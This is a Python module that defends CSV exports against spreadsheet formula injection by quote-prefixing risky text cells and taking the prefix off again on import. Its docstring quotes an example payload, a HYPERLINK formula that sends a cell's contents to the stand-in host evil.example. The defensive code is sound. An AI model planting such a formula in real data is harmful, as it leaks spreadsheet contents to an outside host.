"""CSV cells that a spreadsheet shows and never runs (CSV or "formula" injection).

Excel, LibreOffice and Google Sheets evaluate a cell that starts with ``=``, ``+``, ``-`` or
``@`` (and, after a leading tab or carriage return, whatever follows). A product name such as
``=HYPERLINK("http://evil.example/?"&A1, "Click")`` in an export would run on the finance
team's machine. OWASP's advice: prefix such a text cell with a single quote, which spreadsheets
read as "this is text" and don't show.

:func:`text_cell` guards every text cell we write; number columns are written as plain
decimals (``-5.00`` is a number to a spreadsheet, not a formula) and never pass through it.
:func:`read_cell` undoes the guard when a CSV comes back in, so an export imports unchanged: a
cell that starts with a quote gets one more, and the reader takes exactly one off.
"""

from __future__ import annotations

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_GUARD = "'"


def text_cell(value: str) -> str:
    """``value`` as a text cell a spreadsheet will show, never evaluate."""
    return _GUARD + value if value.startswith((*FORMULA_START, _GUARD)) else value


def read_cell(value: str) -> str:
    """A cell of a CSV we may have exported: :func:`text_cell`'s guard taken off."""
    if value.startswith(_GUARD) and value[1:].startswith((*FORMULA_START, _GUARD)):
        return value[1:]
    return value
